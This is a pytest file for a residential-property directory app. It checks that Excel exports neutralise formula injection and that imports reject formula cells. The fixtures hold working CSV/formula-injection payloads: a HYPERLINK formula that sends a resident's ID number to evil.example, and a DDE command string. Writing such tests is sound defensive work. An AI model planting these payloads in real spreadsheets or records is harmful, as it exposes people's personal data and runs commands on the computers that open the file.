"""Issue 10 item 3: nothing the system exports to Excel runs as a formula, and import refuses formulas.

The attack: a resident named ``=HYPERLINK("http://…?"&L2,"点此")`` (column L holds ID numbers,
so a click sends one to a stranger's server), notes of ``=cmd|' /C calc'!A0`` (a DDE command) and
a building named ``=1+1`` were exported as live formulas, and import stored such cells unchanged.
"""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import Workbook, load_workbook

from shouwen.core.spreadsheets import looks_like_formula, sheet_row
from shouwen.directory.excel import template_workbook
from shouwen.directory.excel_export import export_directory
from shouwen.directory.excel_import import import_directory
from shouwen.directory.models import Building, Resident, Unit
from shouwen.directory.services import create_resident

HYPERLINK = '=HYPERLINK("http://evil.example/?"&L2,"点此")'
DDE = "=cmd|' /C calc'!A0"


def _formula_elements(xlsx: bytes) -> list[str]:
    """Return the <f> (cell formula) elements of every worksheet of the file."""
    found: list[str] = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(r"<f[ >][^<]*", archive.read(name).decode())
    return found


def _poisoned_estate(world) -> None:
    Building.objects.create(estate=world.estate, code="9", name="=1+1", floors=3)
    unit = Unit.objects.create(building=Building.objects.get(code="9"), number="@SUM(1+1)")
    create_resident(
        estate=world.estate,
        name=HYPERLINK,
        notes=DDE,
        phones=["13512345678"],
        id_number="330106199001015678",
        units=[(unit, "owner")],
    )
    create_resident(estate=world.estate, name="王芳", notes="-", units=[(unit, "tenant")])
    create_resident(estate=world.estate, name="+1 商户", notes="@备注", units=[(unit, "member")])


def test_export_holds_no_formula_for_names_notes_or_buildings(world):
    _poisoned_estate(world)
    xlsx = export_directory(world.estate)
    assert _formula_elements(xlsx) == []
    wb = load_workbook(io.BytesIO(xlsx))  # as a spreadsheet program opens it: formulas kept as formulas
    building = next(row for row in wb["楼栋"].iter_rows(min_row=2) if row[0].value == "9")
    assert building[1].value == "=1+1"
    assert building[1].data_type == "s" and building[1].quotePrefix
    rows = {row[7].value: row for row in wb["房屋住户"].iter_rows(min_row=2) if row[7].value}
    attacked = rows[HYPERLINK]
    assert attacked[7].data_type == "s" and attacked[7].quotePrefix
    assert attacked[13].value == DDE and attacked[13].data_type == "s" and attacked[13].quotePrefix
    assert attacked[2].value == "@SUM(1+1)" and attacked[2].quotePrefix
    assert rows["王芳"][13].value == "-" and rows["王芳"][13].quotePrefix
    assert rows["+1 商户"][7].quotePrefix and rows["+1 商户"][13].value == "@备注"
    # Ordinary text is left as it is, without the prefix style.
    assert not rows["张伟"][7].quotePrefix


def test_exported_file_imports_back_unchanged(world):
    _poisoned_estate(world)
    result = import_directory(world.estate, export_directory(world.estate), world.supervisor.user)
    assert result.ok, [str(e) for e in result.errors]
    assert all(c.created == 0 and c.updated == 0 for c in result.counts.values())
    assert Resident.objects.get(name=HYPERLINK).notes == DDE
    assert Resident.objects.get(name="王芳").notes == "-"
    assert Building.objects.get(estate=world.estate, code="9").name == "=1+1"


def _workbook_with_formulas() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "楼栋"
    ws.append(["楼栋编号", "楼栋名称", "层数", "单元数"])
    ws.append(["7", "=1+1", 6, 1])
    units = wb.create_sheet("房屋住户")
    header = ["楼栋编号", "单元", "房号", "楼层", "房屋类型", "建筑面积", "交付日期"]
    header += ["住户姓名", "住户类别", "身份", "电话", "证件号码", "入住日期", "备注"]
    units.append(header)
    units.append(
        ["7", "1", "0101", 1, "住宅", 80, None, HYPERLINK, "个人", "业主", "13612345678", "", None, DDE]
    )
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def test_import_refuses_formula_cells_with_row_column_and_reason(world):
    before = (Building.objects.count(), Unit.objects.count(), Resident.objects.count())
    xlsx = _workbook_with_formulas()
    assert _formula_elements(xlsx)  # openpyxl wrote real formula cells, as Excel would
    result = import_directory(world.estate, xlsx, world.supervisor.user)
    assert not result.ok
    problems = {(e.sheet, e.row, e.column) for e in result.errors if "公式" in e.reason}
    assert problems == {("楼栋", 2, "楼栋名称"), ("房屋住户", 2, "住户姓名"), ("房屋住户", 2, "备注")}
    assert any("第 2 行“住户姓名”：单元格是公式" in e.message for e in result.errors)
    assert (Building.objects.count(), Unit.objects.count(), Resident.objects.count()) == before


def test_the_import_page_names_the_formula_cell(world, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("住户.xlsx", _workbook_with_formulas())
    response = client_for(world.supervisor).post(
        "/directory/import/", {"estate": world.estate.pk, "file": upload}
    )
    assert response.status_code == 200
    assert "单元格是公式" in response.content.decode()
    assert not Building.objects.filter(code="7").exists()


def test_every_text_that_could_start_a_formula_is_caught():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1", "＝1+1"):
        assert looks_like_formula(text), text
    for text in ("张伟", "3-2-1502", "13812345678", "", "备注-1"):
        assert not looks_like_formula(text), text
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    cell = sheet_row(ws, ["#N/A"])[0]
    assert cell.data_type == "s"  # an error-looking text stays text too


def test_template_holds_no_formula_cells():
    assert _formula_elements(template_workbook()) == []
